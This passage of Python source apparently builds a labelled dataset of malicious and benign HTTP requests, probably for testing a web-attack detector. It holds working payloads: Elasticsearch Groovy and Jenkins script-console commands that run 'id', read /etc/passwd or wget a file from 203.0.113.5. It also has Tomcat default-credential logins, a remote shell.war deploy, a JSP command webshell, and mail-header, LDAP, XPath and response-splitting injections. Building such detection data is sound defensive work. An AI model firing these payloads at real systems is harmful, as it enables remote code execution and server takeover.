        ("/CFIDE/administrator/scheduler/scheduletasks.cfm", "path"),
    )),
    Exploit("java", "elasticsearch-groovy-script", "query", ("/_search", "/_all/_search"), (
        '{"size":1,"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"x":{"script":"import java.io.*;'
        'new java.util.Scanner(Runtime.getRuntime().exec(\\"id\\").getInputStream()).useDelimiter(\\"\\\\\\\\A\\").'
        'next();"}}}',
        '{"size":1,"script_fields":{"lupin":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").'
        'getRuntime().exec(\\"id\\").getText()"}}}',
        '{"query":{"match_all":{}},"script_fields":{"a":{"script":"def p=\\"cat /etc/passwd\\".execute();p.text"}}}',
    ), param="source"),
    Exploit("java", "elasticsearch-groovy-script", "body", ("/_search", "/website/_search"), (
        '{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()'
        '.exec(\\"wget http://203.0.113.5/x -O /tmp/x\\").getText()","lang":"groovy"}}}',
        '{"script_fields":{"y":{"script":"Runtime.getRuntime().exec(\\"id\\")"}}}',
    ), ctype="application/json", placement="raw-body"),
    Exploit("java", "jenkins-script-console", "form", ("/script", "/jenkins/script", "/scriptText"), (
        "println \"id\".execute().text",
        "def proc=\"cat /etc/passwd\".execute();def os=new StringBuffer();proc.waitForProcessOutput(os, System.err);"
        "println(os.toString());",
        "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
        "Runtime.getRuntime().exec(\"wget http://203.0.113.5/x -O /tmp/x\")",
    ), param="script", extra=(("Submit", "Run"),)),
    # ---------------------------------------------------------------- generic
    Exploit("generic", "contact-form-header-injection", "form",
            ("/contact.php", "/cgi-bin/formmail.pl", "/sendmail.php", "/feedback.php"), (
                ("email", "attacker@evil.example\nCc: victim1@example.com, victim2@example.org"),
                ("email", "x@example.com\r\nBcc: list@example.net"),
                ("subject", "Hello\nContent-Type: multipart/mixed; boundary=frog\n\n--frog\nContent-Type: text/plain"
                            "\n\nBuy cheap pills"),
                ("name", "x\r\nTo: victim@example.com"),
                ("from", "a@b.example\nBcc: c@d.example\n\nspam body"),
                ("email", "x@example.com\nX-Mailer: bulk\nReply-To: spam@evil.example"),
                ("subject", "hi\r\nBCC:victim@example.com"),
                ("email", "\"spam\" <x@evil.example>\nSubject: overwritten"),
            ), extra=(("name", "John"), ("email", "john@example.com"), ("subject", "Question"),
                      ("message", "Hello, I have a question about my order."))),
    Exploit("generic", "ldap-filter-injection", "query",
            ("/ldap/search.php", "/directory.php", "/cgi-bin/ldapsearch.cgi", "/people/lookup.jsp"), (
                ("user", "*)(uid=*))(|(uid=*"),
                ("username", "admin)(&))"),
                ("cn", "*)(|(objectclass=*)"),
                ("user", "*)(userPassword=*)"),
                ("login", "admin*)((|userpassword=*)"),
                ("search", "*(|(mail=*))"),
                ("uid", "*)(uid=*))\x00"),
                ("name", "x)(|(cn=*)(sn=*))"),
            )),
    Exploit("generic", "xpath-injection", "query", ("/xpath/login.asp", "/search.aspx", "/users.php", "/catalog.jsp"), (
        ("user", "' or '1'='1"),
        ("name", "' or 1=1 or ''='"),
        ("username", "x' or name()='username' or 'x'='y"),
        ("q", "'] | //user/*[contains(*,'"),
        ("id", "' and count(/*)=1 and '1'='1"),
        ("user", "') or ('1'='1"),
        ("id", "1 or count(//user)>0"),
        ("q", "' or string-length(name(/*[1]))>0 or ''='"),
    )),
    Exploit("generic", "http-response-splitting", "query", ("/redirect.php",), (
        ("/redirect.php", "url", "\r\nSet-Cookie: sessionid=evil"),
        ("/index.php", "lang", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
                               "<html>hacked</html>"),
        ("/go.php", "page", "foo\r\nLocation: http://evil.example/"),
        ("/redir.asp", "next", "\r\n\r\n<script>alert(1)</script>"),
        ("/setlang.php", "lang", "fr\nX-XSS-Protection: 0"),
        ("/out.php", "to", "x\u560a\u560dSet-Cookie: a=b"),
        ("/redirect.jsp", "url", "http://example.com/%0d%0aSet-Cookie:x=1"),
    )),
    Exploit("generic", "http-response-splitting", "rawuri", (), (
        "/%0d%0aSet-Cookie:crlf=injection",
        "/redirect/%0D%0ALocation:%20http://evil.example",
        "/%E5%98%8A%E5%98%8DSet-Cookie:crlf=1",
        "/index.php/%0aSet-Cookie:x=1",
    ), placement="path"),
    Exploit("generic", "iis-isapi-overflow", "rawuri", (), (
        "/default.ida?" + "N" * 224 + CODE_RED,
        "/default.ida?" + "X" * 224 + CODE_RED,
        "/NULL.IDA?" + "C" * 240 + "=X",
    ), placement="path"),
]


# --------------------------------------------------------------------------------------------------------------
# Building the requests
# --------------------------------------------------------------------------------------------------------------

class Builder:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def token(self) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(32))

    def boundary(self) -> str:
        return "----------" + "".join(self.rng.choice("0123456789") for _ in range(24))


def enc_value(value: str, light: bool) -> str:
    return urllib.parse.quote_plus(value, safe=LIGHT_SAFE) if light else urllib.parse.quote(value, safe="")


def enc_query(pairs: Pairs, light: bool) -> str:
    return "&".join(f"{urllib.parse.quote(k, safe='[]')}={enc_value(v, light)}" for k, v in pairs)


def form_body(pairs: Pairs) -> str:
    return urllib.parse.urlencode(pairs)


def merged(extra: tuple[tuple[str, str], ...], pairs: Pairs) -> Pairs:
    names = {k for k, _ in pairs}
    return [(k, v) for k, v in extra if k not in names] + pairs


def payload_of(pairs: Pairs) -> str:
    return pairs[0][1] if len(pairs) == 1 else "&".join(f"{k}={v}" for k, v in pairs)


def variant_pairs(ex: Exploit, i: int, v: Any) -> tuple[str, Pairs]:
    """The own path and the parameters of variant i of a query/form exploit."""
    path = ex.paths[i % len(ex.paths)]
    if isinstance(v, str):
        return path, [(ex.param, v)]
    if isinstance(v, list):
        return path, list(v)
    if len(v) == 2 and isinstance(v[1], list):
        return v[0], list(v[1])
    if len(v) == 2:
        return path, [(v[0], v[1])]
    return v[0], [(v[1], v[2])]


def old_headers(n: int) -> dict[str, str]:
    return {"User-Agent": OLD_UAS[n % len(OLD_UAS)], "Accept": "*/*"}


def get(uri: str, headers: dict[str, str]) -> dict[str, Any]:
    return {"method": "GET", "uri": uri, "body": "", "headers": headers}


def post(uri: str, body: str, ctype: str, headers: dict[str, str], method: str = "POST") -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": {**headers, "Content-Type": ctype}}


def multipart(b: Builder, fields: Pairs, files: list[tuple[str, str, str, str]]) -> tuple[str, str]:
    bnd = b.boundary()
    parts = [f"--{bnd}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields]
    parts += [f"--{bnd}\r\nContent-Disposition: form-data; name=\"{k}\"; filename=\"{fn}\"\r\n"
              f"Content-Type: {ct}\r\n\r\n{content}\r\n" for k, fn, ct, content in files]
    return "".join(parts) + f"--{bnd}--\r\n", f"multipart/form-data; boundary={bnd}"


def product_params(b: Builder, k: int, pairs: Pairs, headers: dict[str, str]) -> tuple[dict[str, Any], str]:
    """The parameters on one of this product's routes (rotating by k); (request, placement)."""
    t = k % 4
    if t == 0:
        return get("/api/users?" + enc_query(pairs + [("page", "1")], light=False), headers), "query"
    if t == 1:
        return post("/admin/users/search", form_body([("csrf_token", b.token())] + pairs), FORM, headers), "form"
    if t == 2:
        fields = [("grant_type", "client_credentials"), ("client_id", "legacy-portal")] + pairs
        return post("/oauth/token", form_body(fields), FORM, headers), "form"
    fields = [("csrf_token", b.token())] + pairs + [("theme", "light")]
    return post("/me/settings", form_body(fields), FORM, headers), "form"


def exploit_requests(b: Builder, ex: Exploit, counter: list[int]) -> Iterator[tuple[dict[str, Any], str, str]]:
    """(request, placement, payload) for every variant of an exploit: its own path, then a product route."""
    for i, v in enumerate(ex.variants):
        counter[0] += 1
        n = counter[0]
        headers = old_headers(n)
        light = i % 2 == 0
        if ex.kind in ("query", "form"):
            path, pairs = variant_pairs(ex, i, v)
            own = merged(ex.extra, pairs)
            payload = payload_of(pairs)
            place = ex.placement or ex.kind
            if ex.kind == "query":
                h = {**headers, "User-Agent": ex.ua} if ex.ua else headers
                sep = "&" if "?" in path else "?"
                yield get(path + sep + enc_query(own, light), h), place, payload
            else:
                yield post(path, form_body(own), FORM, headers), place, payload
            req, pplace = product_params(b, n, pairs, old_headers(n + 1))
            yield req, ex.placement or pplace, payload
        elif ex.kind in ("rawquery", "pname"):
            path = ex.paths[i % len(ex.paths)]
            place = "param-name" if ex.kind == "pname" else "query"
            if ex.method == "POST":
                yield post(path, v, FORM, headers), place, v
                yield post("/admin/users/search", f"csrf_token={b.token()}&{v}", FORM, old_headers(n + 1)), place, v
                continue
            body = ex.ctype if "php://input" in urllib.parse.unquote_plus(v).lower() else ""
            if body:
                yield post(path + "?" + v, body, FORM, headers), place, v
                yield post("/api/users?" + v, body, FORM, old_headers(n + 1)), place, v
            else:
                yield get(path + "?" + v, headers), place, v
                yield get("/api/users?" + v, old_headers(n + 1)), place, v
        elif ex.kind == "rawuri":
            uri, place = (v, ex.placement) if isinstance(v, str) else v
            yield get(uri, headers), place, uri
        elif ex.kind == "header":
            name, value = v
            path = ex.paths[i % len(ex.paths)]
            place = "cookie" if name == "Cookie" else f"header:{name}"
            if ex.method == "POST":
                own_req = post(path, "", value, headers)
                yield own_req, place, value
                yield post("/admin/users/search", "", value, old_headers(n + 1)), place, value
                continue
            yield get(path, {**headers, name: value}), place, value
            target = "/api/users?page=1" if i % 2 == 0 else "/me/settings"
            yield get(target, {**old_headers(n + 1), name: value}), place, value
        elif ex.kind == "body":
            path = ex.paths[i % len(ex.paths)]
            yield post(path, v, ex.ctype, headers), ex.placement, v
        elif ex.kind == "multipart":
            field, filename, ctype, content = v
            path = ex.paths[i % len(ex.paths)]
            payload = filename if ex.placement == "multipart-filename" else content
            body, mct = multipart(b, [], [(field, filename, ctype, content)])
            yield post(path, body, mct, headers), ex.placement, payload
            body, mct = multipart(b, [("csrf_token", b.token())], [(field, filename, ctype, content)])
            yield post("/me/settings", body, mct, old_headers(n + 1)), ex.placement, payload
        else:
            raise ValueError(ex.kind)


def tomcat_manager(b: Builder) -> Iterator[tuple[dict[str, Any], str, str]]:
    """Tomcat manager: default credentials, remote WAR deployment, the JMX proxy, a JSP uploaded with PUT."""
    basic = [("tomcat", "tomcat"), ("admin", "admin"), ("tomcat", "s3cret"), ("role1", "role1")]
    for i, (user, pw) in enumerate(basic):
        path = ["/manager/html", "/manager/html", "/host-manager/html", "/manager/status"][i]
        token = base64.b64encode(f"{user}:{pw}".encode()).decode()
        yield get(path, {**old_headers(i), "Authorization": f"Basic {token}"}), "header:Authorization", \
            f"Basic {user}:{pw}"
    for i, uri in enumerate(["/manager/text/deploy?path=/shell&war=http://203.0.113.5/shell.war",
                             "/manager/deploy?path=/x&war=file:/tmp/x.war",
                             "/manager/jmxproxy?qry=*%3Atype%3DUser%2C*"]):
        yield get(uri, old_headers(i + 4)), "query", uri
    jsp = "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"
    yield post("/shell.jsp/", jsp, "application/octet-stream", old_headers(7), method="PUT"), "raw-body", jsp
    _ = b


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder(9401)
    counter = [0]
    n = 0
    for ex in EXPLOITS:
        for req, place, payload in exploit_requests(b, ex, counter):
            n += 1
            yield {**req, "id": f"{NAME}-{ex.cat}-{n:04d}", "category": ex.cat, "sub": ex.sub, "placement": place,
                   "payload": payload}
    for req, place, payload in tomcat_manager(b):
        n += 1
        yield {**req, "id": f"{NAME}-java-{n:04d}", "category": "java", "sub": "tomcat-manager", "placement": place,
               "payload": payload}


# --------------------------------------------------------------------------------------------------------------
# Benign: the same paths and parameters, used as their users use them
# --------------------------------------------------------------------------------------------------------------

# (method, own path, parameters): ordinary requests to the old scripts the exploits aim at
LEGACY: list[tuple[str, str, Pairs]] = [
    ("GET", "/cgi-bin/awstats.pl", [("config", "www.example.com")]),
    ("GET", "/cgi-bin/awstats.pl", [("month", "05"), ("year", "2015"), ("output", "main"),
                                    ("config", "example.com"), ("framename", "mainright")]),
    ("GET", "/awstats/awstats.pl", [("output", "urldetail"), ("config", "shop.example.com")]),
    ("GET", "/cgi-bin/awstats.pl", [("config", "blog"), ("lang", "de"), ("output", "alldomains")]),
    ("POST", "/cgi-bin/formmail.pl", [("recipient", "webmaster@example.com"), ("subject", "Website feedback"),
                                      ("email", "jane.doe@example.org"), ("realname", "Jane Doe"),
                                      ("comments", "Your opening hours on the contact page are out of date.")]),
    ("POST", "/cgi-bin/FormMail.pl", [("recipient", "sales@example.com"), ("subject", "Quote request"),
                                      ("email", "p.oconnor@example.ie"), ("realname", "Pat O'Connor"),
                                      ("comments", "Could you send a quote for 20 units? Delivery to Cork.")]),
    ("GET", "/cgi-bin/test-cgi", []),
    ("GET", "/cgi-bin/counter.cgi", [("page", "index"), ("digits", "6")]),
    ("POST", "/cgi-bin/guestbook.pl", [("name", "Margaret"), ("email", "maggie@example.net"),
                                       ("comment", "Lovely photos from the village fete! See you next year.")]),
    ("POST", "/cgi-bin/guestbook.pl", [("name", "Tom & Jerry's Diner"), ("email", "info@example.com"),
                                       ("comment", "Thanks for the review :-) 5 stars from us too")]),
    ("GET", "/cgi-bin/search.pl", [("q", "opening hours"), ("max", "20")]),
    ("GET", "/cgi-bin/view.pl", [("file", "newsletter-2015-06.html")]),
    ("GET", "/cgi-bin/calc.pl", [("expr", "12*7")]),
    ("GET", "/cgi-bin/calc.py", [("expr", "(3+4)*2")]),
    ("GET", "/cgi-bin/report.pl", [("fmt", "csv"), ("month", "2016-03")]),
    ("GET", "/viewtopic.php", [("t", "1234"), ("highlight", "nginx proxy")]),
    ("GET", "/viewtopic.php", [("p", "98765")]),
    ("GET", "/viewtopic.php", [("t", "42"), ("start", "15"), ("highlight", "raspberry pi")]),
    ("GET", "/phpBB2/viewtopic.php", [("t", "7"), ("highlight", "cmd line")]),
    ("GET", "/forum/viewtopic.php", [("f", "3"), ("t", "2210"), ("highlight", "select union")]),
    ("GET", "/search.php", [("search_id", "newposts")]),
    ("GET", "/search.php", [("q", "holiday opening hours")]),
    ("GET", "/search.php", [("search_keywords", "include file"), ("show_results", "topics")]),
    ("GET", "/index.php", [("page", "about")]),
    ("GET", "/index.php", [("page", "contact")]),
    ("GET", "/index.php", [("file", "report.pdf")]),
    ("GET", "/index.php", [("lang", "en")]),
    ("GET", "/index.php", [("lang", "pt-BR"), ("page", "home")]),
    ("GET", "/index.php", [("template", "default")]),
    ("GET", "/main.php", [("path", "docs/intro")]),
    ("GET", "/page.php", [("page", "faq"), ("section", "shipping")]),
    ("GET", "/view.php", [("file", "minutes-2016-02.doc")]),
    ("GET", "/index.php", [("inc", "news")]),
    ("GET", "/index.php", [("language", "french")]),
    ("GET", "/index.php", [("option", "com_content"), ("view", "article"), ("id", "42"), ("Itemid", "101")]),
    ("GET", "/index.php", [("option", "com_search"), ("searchword", "holiday opening hours")]),
    ("GET", "/index.php", [("option", "com_content"), ("task", "blogcategory"), ("id", "5")]),
    ("GET", "/index.php", [("option", "com_user"), ("view", "reset")]),
    ("GET", "/index.php", [("option", "com_weblinks"), ("catid", "12")]),
    ("POST", "/wp-admin/admin-ajax.php", [("action", "heartbeat"), ("interval", "60"), ("_nonce", "3f9a1b2c4d")]),
    ("GET", "/", [("s", "summer sale")]),
    ("GET", "/", [("p", "123")]),
    ("GET", "/", [("cat", "5")]),
    ("GET", "/", [("page_id", "2")]),
    ("GET", "/wp-content/themes/twentyten/timthumb.php", [("src", "/wp-content/uploads/2014/05/team.jpg"),
                                                          ("w", "300"), ("h", "200")]),
    ("GET", "/product_info.php", [("products_id", "28")]),
    ("GET", "/index.php", [("cPath", "3_10")]),
    ("GET", "/advanced_search_result.php", [("keywords", "blue cotton shirt")]),
    ("GET", "/specials.php", [("page", "2")]),
    ("GET", "/modules.php", [("name", "News"), ("file", "article"), ("sid", "1024")]),
    ("GET", "/default.asp", [("id", "5")]),
    ("GET", "/news.asp", [("id", "2015"), ("cat", "press")]),
    ("POST", "/login.asp", [("username", "jsmith"), ("pwd", "correct horse"), ("submit", "Login")]),
    ("GET", "/search.asp", [("q", "annual report 2014")]),
    ("GET", "/products.jsp", [("id", "17")]),
    ("GET", "/catalog.jsp", [("id", "204"), ("q", "lamp")]),
    ("GET", "/search.jsp", [("query", "return policy")]),
    ("POST", "/login.do", [("username", "mlopez"), ("lang", "es")]),
    ("GET", "/index.action", [("request_locale", "fr")]),
    ("GET", "/login.action", [("username", "guest")]),
    ("GET", "/user.action", [("id", "1001")]),
    ("POST", "/contact.php", [("name", "Anna Schmidt"), ("email", "anna.schmidt@example.de"),
                              ("subject", "Order #10234"), ("message", "Hello, my order hasn't arrived yet. "
                                                                        "Could you check the tracking number?")]),
    ("POST", "/sendmail.php", [("name", "Raj Patel"), ("email", "raj@example.in"), ("subject", "Partnership"),
                               ("message", "Hi team,\nwe'd like to discuss a partnership.\nBest, Raj")]),
    ("POST", "/feedback.php", [("name", "Lee"), ("email", "lee@example.kr"), ("subject", "Site feedback"),
                               ("message", "The search page is slow on mobile; otherwise great.")]),
    ("GET", "/404.php", [("url", "/old-page.html")]),
    ("GET", "/error.jsp", [("msg", "Session expired")]),
    ("GET", "/default.aspx", [("aspxerrorpath", "/products/old.aspx")]),
    ("GET", "/redirect.php", [("url", "https://example.com/news")]),
    ("GET", "/go.php", [("page", "partners")]),
    ("GET", "/setlang.php", [("lang", "fr")]),
    ("GET", "/out.php", [("to", "https://www.example.org/")]),
    ("GET", "/ldap/search.php", [("user", "jsmith")]),
    ("GET", "/directory.php", [("cn", "Smith"), ("ou", "Sales")]),
    ("GET", "/people/lookup.jsp", [("name", "O'Brien")]),
    ("GET", "/users.php", [("user", "mary.jones")]),
    ("GET", "/xpath/login.asp", [("user", "ana")]),
    ("GET", "/guestbook.php", [("page", "3")]),
    ("POST", "/posting.php", [("mode", "reply"), ("t", "1234"),
                              ("message", "Thanks, the [b]nginx[/b] tip worked. [url=https://nginx.org/]docs[/url]")]),
    ("POST", "/comment.php", [("name", "Chris"), ("email", "chris@example.com"), ("url", "https://chris.example.com"),
                              ("comment", "Great write-up; the script section was especially useful.")]),
    ("GET", "/CFIDE/administrator/enter.cfm", [("locale", "en_US")]),
    ("GET", "/_search", [("q", "title:report"), ("size", "10")]),
    ("GET", "/modules.php", [("name", "Your_Account"), ("op", "userinfo"), ("username", "jdoe")]),
    ("GET", "/tiki-graph_formula.php", [("w", "400"), ("h", "300"), ("f[]", "sin(x)"), ("t", "png")]),
    ("GET", "/index.php", [("eval", "quarterly"), ("code", "A12")]),
    ("GET", "/index.php", [("cmd", "list"), ("view", "grid")]),
    ("GET", "/cgi-bin/app.py", [("q", "weather berlin")]),
    ("GET", "/cgi-bin/nph-exploitscanget.cgi", [("host", "www.example.com"), ("port", "80")]),
    ("GET", "/viewtopic.php", [("t", "5150"), ("highlight", "php include")]),
    ("GET", "/wp-admin/admin-ajax.php", [("action", "get_events"), ("month", "6")]),
    ("GET", "/search.aspx", [("q", "user manual")]),
    ("GET", "/index.php", [("s", "O'Reilly")]),
]

SEARCHES = [
    "opening hours", "john o'neil", "select committee minutes", "union station parking", "how to include a file",
    "exec summary q3", "script writing workshop", "cat food", "drop-off point", "insert coin", "rock & roll",
    "Müller", "José García", "北京 office", "price < 20", "ernst & young", "C:\\Users\\Public", "50% off",
    "order by date", "where is the union hall", "table for two", "select all", "delete account", "alert settings",
    "passwd reset help", "bash scripting course", "system requirements", "shell beach", "php developer jobs",
    "java 8 migration", "struts replacement", "cold fusion reactor", "tomcat cat breed", "jboss to wildfly",
    "the wrap restaurant", "count of monte cristo", "cmd line tips", "eval form 2016", "ping pong table",
    "update firmware", "sleep study", "benchmark results", "concat strings excel", "information schema docs",
    "xp pen tablet", "oracle certification", "sp_who2 output", "Smith, John", "A&B Ltd.", "1+1",
    "2016-05-01..2016-05-31", "\"exact phrase\"", "O'Hara & Sons", "x-ray clinic", "id card renewal",
    "timthumb alternatives", "phpbb forum export", "joomla template", "wordpress plugin list", "osCommerce migration",
    "contact form spam", "ldap sync", "xpath tutorial", "ssi pages", "cgi-bin cleanup",
]

CHAT = [
    "saw the phf probe in the access log again, that exploit is from 1996 lol",
    "awstats is retired, the reports live in Grafana now",
    "the old /cgi-bin directory is gone since the migration, nothing to worry about",
    "Shellshock was 2014 and every bash we ship is patched; the scanner hits are noise",
    "please include the Q3 figures in the exec summary before Friday",
    "the union meeting is at 5, select your seat in the sheet",
    "can someone update the select menu on the settings page? it lists removed languages",
    "cat picture in #random, then back to work",
    "our page=about link broke after the deploy, fixed in the next release",
    "lang=en is the default; lang=pt-BR needs the new translations",
    "report.pdf is attached to the ticket, file name is report-2016-q2.pdf",
    "the DBA confirmed xp_cmdshell is disabled on the reporting SQL Server",
    "information_schema queries are slow on the replica, use the cached catalog",
    "Struts 1 end of life was 2013; the last app on it goes away this quarter",
    "JBoss jmx-console is not exposed anywhere, I double checked the firewall",
    "Tomcat manager is only on the admin VPN, port 8443",
    "the ColdFusion box was decommissioned in 2017",
    "phpBB forum export done, 12k topics imported into Discourse",
    "the Joomla site for the charity runs 3.9 now, updates weekly",
    "WordPress plugin audit: removed timthumb and revslider from the marketing site",
    "osCommerce shop data migrated to the new platform, orders since 2009",
    "IIS 5 is long gone, we only run IIS 10 for the intranet",
    "the contact form gets spam with Bcc lines in the email field, we strip newlines",
    "LDAP sync runs at 02:00, filter is (objectClass=person)",
    "the XPath in the export uses //order[@status='open']",
    "response splitting is why we drop CR and LF from redirect targets",
    "SSI pages are converted to static HTML, the <!--#include--> lines are gone",
    "the Perl CGI scripts were rewritten in Go last year",
    "python cgi module is deprecated in 3.11, we use the framework",
    "eval is banned in the lint config, use a lookup table",
    "assert statements are stripped in production builds",
    "preg_replace with the e modifier was removed in PHP 7",
    "the ImageMagick policy.xml blocks MVG and MSL coders",
    "PHPMailer updated to 6.x, the sender injection fix is in",
    "Drupal 7 sites are patched, drupalgeddon was 2014",
    "the scanner hit /wp-login.php 400 times today, we don't even run WordPress",
    "FCKeditor upload folder removed from the legacy CMS",
    "Elasticsearch dynamic scripting stays disabled",
    "Jenkins script console is admin only and behind SSO",
    "nimda and code red requests still show up in the IIS logs, 20 years later",
    "the Oracle package grants were reviewed: no PUBLIC on utl_http",
    "vBulletin forum archived as static pages",
    "phpMyAdmin removed from all hosts, use the bastion and psql",
    "the old test-cgi script printed the environment, removed in 2001",
    "SELECT name, email FROM users WHERE active = true ORDER BY name; is the query for the export",
    "the union of both lists is in the drive, union.csv",
    "let's drop the table layout and use grid",
    "waitfor the deploy to finish before testing",
    "run `id` on the box and paste the uid in the ticket",
    "the file is at /etc/app/config.yaml, not in /etc/passwd obviously",
    "Windows path is C:\\inetpub\\wwwroot\\app, IIS serves it",
    "the boot.ini on that XP VM is read-only",
    "price is $20 per seat; ${tier} pricing is on the website",
    "O'Reilly has a good book on Apache httpd",
    "meeting moved: Tue 10:30 -> Wed 11:00",
    "the <script> tag in the newsletter template must be removed, Mailchimp strips it",
    "use &amp; in the XML, not a bare &",
    "the alert(1) in the XSS training slides made everyone laugh",
    "the Santy worm hit phpBB in 2004 via the highlight parameter, fun history lesson",
    "mosConfig_absolute_path was a Mambo setting, the new CMS has nothing like it",
    "GLOBALS overwrite bugs were a register_globals thing, PHP 5.4 removed it",
    "our /admin/users/search page needs a date filter",
    "the OAuth client for the legacy portal is legacy-portal, scope read",
    "my bio says I love shell scripting and cat videos",
    "the page template for the holiday campaign is ready",
    "path to the docs: docs/intro then docs/setup",
    "include me in the incident review please",
    "system maintenance Saturday 22:00 UTC",
    "exec team offsite next week, slides due Thursday",
    "the cmd shortcut on Windows is Win+R then cmd",
]

CONTACT = [
    ("Maria Rossi", "maria.rossi@example.it", "Order question",
     "Hello,\nI ordered two items on Monday and only one arrived. Order #10457.\nThanks, Maria"),
    ("Dan O'Sullivan", "dan@example.ie", "Re: invoice",
     "Hi, the invoice says €120 but the quote was €100 - can you check? Cheers"),
    ("Yuki Tanaka", "yuki@example.jp", "Partnership",
     "We run a small shop in Osaka and would like to stock your products."),
    ("Peter Müller", "p.mueller@example.de", "Rückfrage",
     "Guten Tag, ist das Produkt auch in Blau erhältlich? Viele Grüße"),
    ("Sam & Alex", "hello@example.com", "Wedding booking",
     "We'd love to book the venue for 12 June. Is the garden available?"),
    ("Chen Wei", "chen.wei@example.cn", "Catalog request",
     "Please send the 2016 catalog (PDF is fine)."),
    ("Olivia Brown", "olivia.b@example.co.uk", "Complaint",
     "The delivery driver left the parcel in the rain. Not happy :("),
    ("Ahmed Hassan", "ahmed@example.eg", "Job application",
     "Please find my CV attached. I have 5 years of PHP and Java experience."),
    ("Lucía Fernández", "lucia@example.es", "Newsletter",
     "Please unsubscribe me from the newsletter, thank you."),
    ("Bob", "bob@example.com", "Website",
     "Your contact page says 'call us' but there's no number."),
    ("Ingrid Larsen", "ingrid@example.no", "Group booking",
     "Table for 12 on Friday at 7pm? We'd select the set menu."),
    ("Kofi Mensah", "kofi@example.gh", "Support",
     "I can't log in since the update; the reset link says the token expired."),
    ("Anne-Marie Dubois", "am.dubois@example.fr", "Question",
     "Bonjour, do you ship to Lyon? Merci d'avance."),
    ("Ravi Kumar", "ravi@example.in", "Bulk order",
     "We need 500 units by the 15th. Can you include shipping in the quote?"),
    ("Grace Kim", "grace@example.kr", "Thanks",
     "Just wanted to say the repair was excellent. 10/10 would recommend!"),
    ("Tom Walker", "tom.walker@example.com", "Event",
     "Is the union hall event still on? The page shows two dates."),
    ("Zoë Clarke", "zoe@example.co.nz", "Gift card",
     "Can a gift card be used online & in store?"),
    ("Mohammed Al-Sayed", "m.alsayed@example.ae", "Warranty",
     "My kettle stopped working after 3 months. What's the warranty process?"),
    ("Elena Petrova", "elena@example.ru", "Translation",
     "The Russian version of the site has some English text left, e.g. the FAQ page."),
    ("Jack Thompson", "jack@example.au", "Script",
     "I'm writing a script for a school play about your town's history. Could I use the old photos?"),
]

OAUTH_CLIENTS = ["legacy-portal", "reports-batch", "crm-sync", "mobile-ios", "billing-worker", "kiosk-42"]
SCOPES = ["read", "read write", "users:read", "reports:read reports:write", "openid profile email"]


def browser_headers(b: Builder, k: int, referer: str = "") -> dict[str, str]:
    h = {"User-Agent": BROWSER_UAS[k % len(BROWSER_UAS)],
         "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
         "Accept-Language": ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9", "en-GB,en;q=0.8"][k % 4],
         "Accept-Encoding": "gzip, deflate, br",
         "Cookie": f"session={b.token()}; cookie_consent=accepted"}
    if referer:
        h["Referer"] = referer
    return h


def benign_product(b: Builder, k: int, pairs: Pairs) -> dict[str, Any]:
    """Ordinary parameters on this product's routes (rotating)."""
    h = browser_headers(b, k, "https://app.example.com/admin/")
    t = k % 4
    if t == 0:
        return get("/api/users?" + urllib.parse.urlencode(pairs + [("per_page", "50")],
                                                          quote_via=urllib.parse.quote), h)
    if t == 1:
        return post("/admin/users/search", form_body([("csrf_token", b.token())] + pairs), FORM, h)
    if t == 2:
        fields = [("grant_type", "client_credentials"), ("client_id", OAUTH_CLIENTS[k % len(OAUTH_CLIENTS)])] + pairs
        return post("/oauth/token", form_body(fields), FORM, {"User-Agent": "python-requests/2.31.0",
                                                                "Accept": "application/json"})
    return post("/me/settings", form_body([("csrf_token", b.token())] + pairs + [("theme", "light")]), FORM, h)


def benign() -> Iterator[dict[str, Any]]:
    b = Builder(9402)
    n = yield from chat_and_bio(CHAT, NAME)
    for k, (method, path, pairs) in enumerate(LEGACY):
        h = browser_headers(b, k, "https://www.example.com/")
        if method == "GET":
            uri = path + ("?" + urllib.parse.urlencode(pairs) if pairs else "")
            req = get(uri, h)
        else:
            req = post(path, form_body(pairs), FORM, h)
        n += 1
        yield {**req, "id": f"{NAME}-legacy-{n:04d}", "category": "benign", "placement": "query"
               if method == "GET" else "form"}
        if pairs:
            for j in range(2):
                n += 1
                yield {**benign_product(b, k + j, pairs), "id": f"{NAME}-params-{n:04d}", "category": "benign",
                       "placement": "mixed"}
    for k, text in enumerate(SEARCHES):
        h = browser_headers(b, k, "https://app.example.com/admin/users")
        n += 1
        uri = "/api/users?" + urllib.parse.urlencode([("q", text), ("page", str(k % 5 + 1)),
                                                      ("per_page", ["20", "50", "100"][k % 3])],
                                                     quote_via=urllib.parse.quote)
        yield {**get(uri, h), "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "query"}
        n += 1
        body = form_body([("csrf_token", b.token()), ("q", text)])
        yield {**post("/admin/users/search", body, FORM, h), "id": f"{NAME}-search-{n:04d}", "category": "benign",
               "placement": "form"}
        n += 1
        own = ["/search.php", "/", "/index.php", "/search.aspx", "/search.jsp", "/cgi-bin/search.pl"][k % 6]
        name = ["q", "s", "searchword", "q", "query", "q"][k % 6]
        yield {**get(own + "?" + urllib.parse.urlencode([(name, text)]), h), "id": f"{NAME}-search-{n:04d}",
               "category": "benign", "placement": "query"}
    for k, (who, email, subject, message) in enumerate(CONTACT):
        h = browser_headers(b, k, "https://www.example.com/contact")
        n += 1
        own = ["/contact.php", "/sendmail.php", "/feedback.php", "/cgi-bin/formmail.pl"][k % 4]
        fields = [("name", who), ("email", email), ("subject", subject), ("message", message)]
        yield {**post(own, form_body(fields), FORM, h), "id": f"{NAME}-contact-{n:04d}", "category": "benign",
               "placement": "form"}
        n += 1
        fields = [("csrf_token", b.token()), ("display_name", who), ("email", email), ("notes", message)]
